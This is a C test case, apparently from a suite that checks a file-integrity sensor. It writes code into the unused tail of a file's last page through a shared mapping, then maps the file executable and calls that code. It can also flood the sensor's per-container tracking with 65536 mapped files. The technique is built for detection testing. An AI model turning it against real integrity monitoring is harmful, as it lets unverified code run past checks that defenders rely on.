/*
 * The last page of a file has room behind its end. What is written there through a shared mapping is no part of
 * the file and none of its digest, and it runs from where the page is mapped executable.
 * With the argument `beyond_share`, after more files were mapped that way than the sensor remembers of a container.
 * Must be seen: that the file's digest is not believed.
 */
#include "attack.h"

enum { SHARE = 65536 }; /* DIGESTS_SHARE of options.py */

static void use_share_up(void)
{
	char path[64];

	for (int i = 0; i < SHARE; i++) {
		snprintf(path, sizeof(path), "/dev/shm/%d", i);
		int fd = must(open(path, O_RDWR | O_CREAT, 0600), path);
		munmap(mapped(mmap(0, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0), path), PAGE);
		close(fd);
	}
}

ATTACK(past_the_end)
{
	size_t size = size_of(PROGRAM), end = (size + 63) & -64;
	char *bytes, *code;
	int fd;

	if (size / PAGE != end / PAGE)
		absent("room behind the end");
	if (argc)
		use_share_up();
	bytes = dirty_mapping(PROGRAM);
	memcpy(bytes + end, evil_code, sizeof(evil_code));
	munmap(bytes, size);
	fd = opened(PROGRAM, O_RDONLY);
	code = mapped(mmap(0, size, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0), "mmap " PROGRAM);
	call(code + end);
	return 0;
}
